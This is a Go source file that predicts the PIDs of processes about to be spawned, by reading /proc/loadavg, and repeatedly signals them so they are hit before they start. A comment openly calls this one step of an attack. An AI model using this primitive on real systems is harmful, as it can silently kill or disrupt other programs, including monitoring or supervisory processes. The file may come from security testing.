package main

import (
	"bytes"
	"os"
	"strconv"
	"syscall"
)

// ahead is how many numbers after the last process's are tried.
const ahead = 12

// hit signals whatever appears in the pid namespace. The kernel counts pids up: the next process has one of the next numbers, and
// it is hit before it has done anything. It is one step of the attack and makes no thread, which would have such a number too.
func hit(signal syscall.Signal) func() {
	last := newest()
	return func() {
		for range 64 {
			for pid := last + 1; pid <= last+ahead; pid++ {
				_, _, _ = syscall.RawSyscall(syscall.SYS_KILL, uintptr(pid), uintptr(signal), 0)
			}
		}
		last = max(newest(), last)
	}
}

// newest gives the number of the newest process of the pid namespace (proc(5), loadavg).
func newest() int {
	b, err := os.ReadFile("/proc/loadavg")
	if err != nil {
		return os.Getpid()
	}
	fields := bytes.Fields(b)
	pid, _ := strconv.Atoi(string(fields[len(fields)-1]))
	return pid
}
